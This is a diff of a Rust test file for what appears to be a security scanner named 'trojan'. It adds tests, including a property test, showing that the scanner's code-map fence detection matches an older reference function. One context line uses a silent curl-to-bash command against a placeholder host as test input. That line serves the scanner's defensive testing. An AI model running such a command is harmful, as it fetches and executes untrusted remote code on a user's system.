@@ -32,11 +32,61 @@ fn finds_scripts_run_from_the_skills_folder() {
     assert!(paths("curl -s https://x.example/s | bash >/dev/null 2>&1").is_empty());
 }
 
+/// The fence list `companions` kept before it read the code map's
+/// (`CodeMap::loose_fences`): the oracle.
+fn fence_lines(text: &str) -> Vec<usize> {
+    let b = text.as_bytes();
+    let [backticks, tildes] = ["```", "~~~"].map(memchr::memmem::Finder::new);
+    let mut fences: Vec<usize> = backticks
+        .find_iter(b)
+        .chain(tildes.find_iter(b))
+        .filter_map(|at| {
+            let indent = b[..at].iter().rev().take_while(|&&c| c != b'\n' && c.is_ascii_whitespace()).count();
+            let start = at - indent;
+            let end = memchr::memchr(b'\n', &b[at..]).map_or(b.len(), |k| at + k);
+            ((start == 0 || b[start - 1] == b'\n') && is_fence(&text[at..end])).then_some(start)
+        })
+        .collect();
+    fences.sort_unstable();
+    fences.dedup();
+    fences
+}
+
+fn loose_fences(text: &str) -> Vec<usize> {
+    crate::scan::code::CodeMap::of(text).loose_fences
+}
+
+#[test]
+fn the_code_maps_fences_are_the_ones_trojan_found_itself() {
+    for text in [
+        "a\n```bash\nx\n```\nb\n  ~~~\ny\n~~~\n`x` ```\n",
+        " \t\r\x0c```\n\x0b```\n> ```\n- ~~~\n``~~~\n`````\n```x```\n~~~~~ x`\n```",
+        "```",
+        "",
+        "x\r\n  ```py\r\n```\r\n",
+    ] {
+        assert_eq!(loose_fences(text), fence_lines(text), "{text:?}");
+    }
+}
+
+proptest::proptest! {
+    #[test]
+    fn the_code_maps_fences_are_the_ones_trojan_found_itself_on_any_text(
+        pieces in proptest::collection::vec(
+            proptest::sample::select(&["```", "~~~", "`", "~", " ", "\t", "\r", "\x0c", "\x0b", "\n", "> ", "- ", "* ", "x", "é"][..]),
+            0..40,
+        )
+    ) {
+        let text = pieces.concat();
+        proptest::prop_assert_eq!(loose_fences(&text), fence_lines(&text));
+    }
+}
+
 #[test]
 fn knows_which_lines_are_in_code_blocks() {
     let text = "a\n```bash\nx\n```\nb\n  ~~~\ny\n~~~\n`x` ```\n";
     let starts: Vec<usize> = std::iter::once(0).chain(text.match_indices('\n').map(|(i, _)| i + 1)).collect();
-    let fences = fence_lines(text);
+    let fences = loose_fences(text);
     assert_eq!(fences, [starts[1], starts[3], starts[5], starts[7]]);
     let inside: Vec<bool> = starts.iter().map(|&s| in_code_block(&fences, s)).collect();
     assert_eq!(inside, [false, false, true, false, false, false, true, false, false, false]);
